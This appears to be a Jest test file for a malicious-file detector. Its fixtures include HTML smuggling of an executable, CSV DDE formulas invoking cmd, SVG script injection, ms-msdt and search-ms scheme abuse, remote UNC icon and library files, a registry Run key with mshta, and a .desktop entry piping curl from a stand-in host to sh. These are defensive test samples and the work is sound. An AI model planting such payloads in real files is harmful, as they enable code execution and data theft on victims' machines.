import { expect, test } from '@jest/globals';
import { utf16 } from '../file-of.ts';
import { look } from './ids-of.ts';

const program = Buffer.alloc(400, 7);
program.write('MZ');
program.writeUInt32LE(128, 60);
program.write('PE\0\0', 128);
const base64 = program.toString('base64');
const reversed = [...base64].reverse().join('');
const save =
  'const a=document.createElement("a");a.href=URL.createObjectURL(new Blob([u]));a.download="a.exe";a.click();';
const noise = Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * i * 7919 + 131 * i) % 251)).toString(
  'base64',
);
const svg = (inner: string, root = '') => `<svg xmlns="http://www.w3.org/2000/svg" ${root}>${inner}</svg>`;

test.each<[id: string, name: string, content: string]>([
  ['scripts.html-smuggling', 'a.html', `<html><script>var b=atob("${base64}");${save}</script></html>`],
  [
    'scripts.html-smuggling',
    'a.html',
    `<html><script>var b=atob("${base64.slice(0, 200)}"+\n"${base64.slice(200)}");${save}</script></html>`,
  ],
  [
    'scripts.html-smuggling',
    'a.html',
    `<script>var b=atob("${reversed}".split("").reverse().join(""));${save}</script>`,
  ],
  [
    'scripts.html-smuggling',
    'a.html',
    `<script>var b=new Uint8Array([${[...program].join(',')}]);${save}</script>`,
  ],
  ['scripts.html-smuggling', 'a.html', `<script>var b="${program.toString('hex')}";${save}</script>`],
  [
    'scripts.html-smuggling',
    'a.html',
    `<input id="d" value="${base64}"><script>var b=atob(d.value);navigator.msSaveBlob(new Blob([b]),"a.exe")</script>`,
  ],
  ['scripts.html-smuggling', 'a.html', `<script>var b=xor(atob("${noise}"),"key");${save}</script>`],
  [
    'scripts.html-paste',
    'a.html',
    `<script>navigator.clipboard.writeText("powershell -w hidden -c calc")</script>`,
  ],
  ['scripts.html-scheme', 'a.html', '<script>location.href="ms-msdt:/id PCWDiagnostic /skip force"</script>'],
  [
    'scripts.html-scheme',
    'a.html',
    '<html><a href="search-ms:query=a&crumb=location:\\\\a.invalid\\x">a</a></html>',
  ],
  ['scripts.svg-script', 'a.svg', svg('<script>alert(1)</script>')],
  [
    'scripts.svg-script',
    'a.svg',
    '<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script type="a">alert(1)</x:script></x:svg>',
  ],
  ['scripts.svg-script', 'a.svg', svg('<script href="data:text/javascript,alert(1)"/>')],
  ['scripts.svg-handler', 'a.svg', svg('', 'onload = "alert(1)"')],
  ['scripts.svg-handler', 'a.svg', svg("<image href='x' onerror='alert(1)'/>")],
  ['scripts.svg-active-link', 'a.svg', svg('<a xlink:href="java&#115;cript:alert(1)"><text>a</text></a>')],
  ['scripts.svg-active-link', 'a.svg', svg('<use href="data:image/svg+xml;base64,AAAA#x"/>')],
  ['scripts.svg-page', 'a.svg', svg('<foreignObject><iframe src="http://a.invalid/"/></foreignObject>')],
  ['scripts.csv-dde', 'a.csv', "a,b\n=cmd|'/c calc'!A1,1\n"],
  ['scripts.csv-dde', 'a.csv', 'a,b\n1,"+cmd|\'/c calc\'!A1"\n'],
  ['scripts.csv-dde', 'a.csv', "a,b\n-2+3+cmd|' /C calc'!D2\n"],
  ['scripts.csv-dde', 'a.csv', "a,b\n@SUM(1+1)*cmd|' /C calc'!A0\n"],
  ['scripts.csv-dde', 'a.tsv', "a\tb\n1\t=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''\n"],
  ['scripts.csv-dde', 'a.csv', '=AAAA+BBBB-CCCC&"Hello"/12345&powershell|\'-c calc\'!A\n'],
  ['scripts.csv-dde', 'a.csv', "=    C    m D                    |        '/ c calc'   !   'A1'\n"],
  ['scripts.csv-sends', 'a.csv', 'a\n=WEBSERVICE("http://a.invalid/?"&A2)\n'],
  ['scripts.url-remote-file', 'a.url', '[InternetShortcut]\r\nURL=file://a.invalid/x/a.exe\r\n'],
  ['scripts.url-remote-file', 'a.url', '[InternetShortcut]\r\nURL=\\\\a.invalid@80\\x\\a.exe\r\n'],
  [
    'scripts.url-remote-file',
    'a.url',
    '[InternetShortcut]\r\nurl = file:///C:/Windows/System32/calc.exe\r\n',
  ],
  [
    'scripts.url-script',
    'a.url',
    '[InternetShortcut]\r\nURL=mhtml:http://a.invalid/a!x-usc:http://a.invalid/\r\n',
  ],
  [
    'scripts.url-remote-icon',
    'a.url',
    '[InternetShortcut]\r\nURL=https://a.invalid/\r\nIconFile=\\\\a.invalid\\x\\a.ico\r\n',
  ],
  ['scripts.remote-icon', 'a.scf', '[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.1\\x\\a.ico\r\n'],
  [
    'scripts.setting-command',
    'a.settingcontent-ms',
    '<?xml version="1.0"?><PCSettings><SearchableContent><ApplicationInformation><DeepLink>%windir%\\system32\\cmd.exe /c calc</DeepLink></ApplicationInformation></SearchableContent></PCSettings>',
  ],
  [
    'scripts.remote-library',
    'a.library-ms',
    '<?xml version="1.0"?><libraryDescription><simpleLocation><url>\\\\a.invalid\\x</url></simpleLocation></libraryDescription>',
  ],
  [
    'scripts.shell-run',
    'a.xsl',
    '<?xml version="1.0"?><stylesheet xmlns:ms="urn:schemas-microsoft-com:xslt"><ms:script language="JScript">new ActiveXObject("WScript.Shell").Run(c);</ms:script></stylesheet>',
  ],
  ['scripts.sylk-macro', 'a.slk', 'ID;P\nO;E\nNN;NAuto_open;ER101C1\nC;X1;Y101;EEXEC("calc.exe")\n'],
  [
    'scripts.registry-run',
    'a.reg',
    'Windows Registry Editor Version 5.00\n\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\n"a"="mshta http://a.invalid/"\n',
  ],
  [
    'scripts.desktop-command',
    'a.desktop',
    '[Desktop Entry]\nType=Application\nExec=sh -c "curl http://a.invalid/ | sh"\n',
  ],
  [
    'scripts.remote-library',
    'a.search-ms',
    '<?xml version="1.0"?><persistedQuery version="1.0"><query><scope><include path="\\\\a.invalid\\x"/></scope></query></persistedQuery>',
  ],
  [
    'scripts.remote-install',
    'a.application',
    '<?xml version="1.0"?><asmv1:assembly xmlns:asmv1="urn:schemas-microsoft-com:asm.v1"><asmv2:deployment><asmv2:deploymentProvider codebase="http://a.invalid/a.application"/></asmv2:deployment></asmv1:assembly>',
  ],
  [
    'scripts.remote-install',
    'a.jnlp',
    '<?xml version="1.0"?><jnlp codebase="http://a.invalid" href="a.jnlp"><security><all-permissions/></security></jnlp>',
  ],
  ['scripts.remote-media', 'a.m3u', '#EXTM3U\n#EXTINF:1,a\n\\\\a.invalid\\x\\a.mp3\n'],
  [
    'scripts.remote-media',
    'a.wax',
    '<asx version="3.0"><entry><ref href="file://a.invalid/x/a.mp3"/></entry></asx>',
  ],
  [
    'scripts.remote-icon',
    'a.theme',
    '[Theme]\n[Control Panel\\Desktop]\nWallpaper=\\\\a.invalid\\x\\a.jpg\n',
  ],
  ['scripts.remote-icon', 'desktop.ini', '[.ShellClassInfo]\nIconResource=\\\\a.invalid\\x\\a.ico,0\n'],
  [
    'scripts.html-inner-page',
    'a.html',
    '<html><head><meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD4="></head></html>',
  ],
  [
    'scripts.html-inner-page',
    'a.html',
    `<html><meta content="1, URL='java&#115;cript:a()'" http-equiv=refresh></html>`,
  ],
  [
    'scripts.html-decoding-handler',
    'a.html',
    '<html><body onload="eval(atob(\'YWxlcnQoMSk=\'))"></body></html>',
  ],
  [
    'scripts.html-decoding-handler',
    'a.html',
    '<html><img src=x onerror="document.write(decodeURIComponent(escape(atob(this.id))))"></html>',
  ],
  [
    'scripts.svg-active-link',
    'a.svg',
    `<!DOCTYPE svg [<!ENTITY a "java"><!ENTITY b '&a;script'>]>${svg('<a href="&b;:alert(1)"><text>x</text></a>')}`,
  ],
  [
    'scripts.svg-script',
    'a.svg',
    `<!DOCTYPE svg [<!ENTITY a "&#60;script>alert(1)&#60;/script>">]>${svg('&a;')}`,
  ],
])('%s in %s: %s', async (id, name, content) => {
  const found = await look(name, content);
  expect(found.ids).toContain(id);
  expect(found.score).toBeGreaterThanOrEqual(300);
  expect((await look(name, utf16(content))).ids).toEqual(found.ids);
});

const picture = Buffer.concat([
  Buffer.from('89504e470d0a1a0a0000000d49484452', 'hex'),
  Buffer.alloc(600, 3),
]).toString('base64');

test.each<[name: string, content: string]>([
  [
    'a.html',
    '<!doctype html><html><body><h1>Hi</h1><script>document.querySelector("h1").textContent="Hello";</script></body></html>',
  ],
  ['a.html', `<img src="data:image/png;base64,${picture}"><a href="a.pdf" download>a</a>`],
  // A page that exports a picture of its own.
  ['a.html', `<img src="data:image/png;base64,${picture}"><script>var b=atob(x);${save}</script>`],
  [
    'a.html',
    `<button onclick="navigator.clipboard.writeText('npm install')">Copy</button><pre>powershell -c x</pre>`,
  ],
  [
    'a.html',
    '<p>Follina used ms-msdt addresses, and <code>powershell -enc</code>.</p><script src="a.js"></script>',
  ],
  [
    'a.svg',
    svg('<style>circle { fill: red }</style><circle r="4"/><a href="https://a.invalid/"><text>a</text></a>'),
  ],
  ['a.svg', svg('<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">Label</div></foreignObject>')],
  [
    'a.svg',
    svg('<script/><image href="data:image/png;base64,AAAA"/><animate attributeName="x" values="1;2"/>'),
  ],
  ['a.csv', 'name,value\nalpha,-1\nbeta,=SUM(B1:B2)\n=A1&"|"&B1,x!\n'],
  [
    'a.csv',
    'note\n- first | second!\n+49 123|4\n@handle | hello!\n"=HYPERLINK(""https://a.invalid/"",""a"")"\n',
  ],
  [
    'a.url',
    '[InternetShortcut]\r\nURL=https://a.invalid/page\r\nIconFile=C:\\Windows\\System32\\shell32.dll\r\n',
  ],
  ['a.iqy', 'WEB\r\n1\r\nhttps://a.invalid/table\r\n'],
  ['desktop.ini', '[.ShellClassInfo]\r\nIconResource=C:\\Windows\\System32\\imageres.dll,3\r\n'],
  ['a.html', '<html><head><meta http-equiv="refresh" content="5; url=https://a.invalid/"></head></html>'],
  [
    'a.html',
    '<html><meta name="description" content="data: what it is"><body onload="setTimeout(start, 100)"></html>',
  ],
  ['a.svg', `<!DOCTYPE svg [<!ENTITY ns "http://a.invalid/ns">]>${svg('<g/>', 'xmlns:x="&ns;"')}`],
  ['a.m3u', '#EXTM3U\n\\\\server\\music\\a.mp3\nhttps://a.invalid/a.mp3\n'],
  [
    'a.manifest',
    '<?xml version="1.0"?><assembly><dependency><dependentAssembly codebase="a.dll"/></dependency></assembly>',
  ],
  [
    'a.search-ms',
    '<?xml version="1.0"?><persistedQuery><query><scope><include path="C:\\Users"/></scope></query></persistedQuery>',
  ],
  ['a.xml', '<?xml version="1.0"?><project><url>https://a.invalid/</url></project>'],
  ['a.slk', 'ID;PWXL;N;E\nC;Y1;X1;K"a|b!c"\nE\n'],
])('clean: %s: %s', async (name, content) => {
  expect((await look(name, content)).score).toBeLessThan(300);
});

test('entities that name each other do not grow without bound', async () => {
  const lines = Array.from({ length: 30 }, (_, n) => `<!ENTITY a${n + 1} "${`&a${n};`.repeat(10)}">`).join(
    '',
  );
  const found = await look('a.svg', `<!DOCTYPE svg [<!ENTITY a0 "x">${lines}]>${svg('<text>&a30;</text>')}`);
  expect(found.ids).toEqual([]);
});
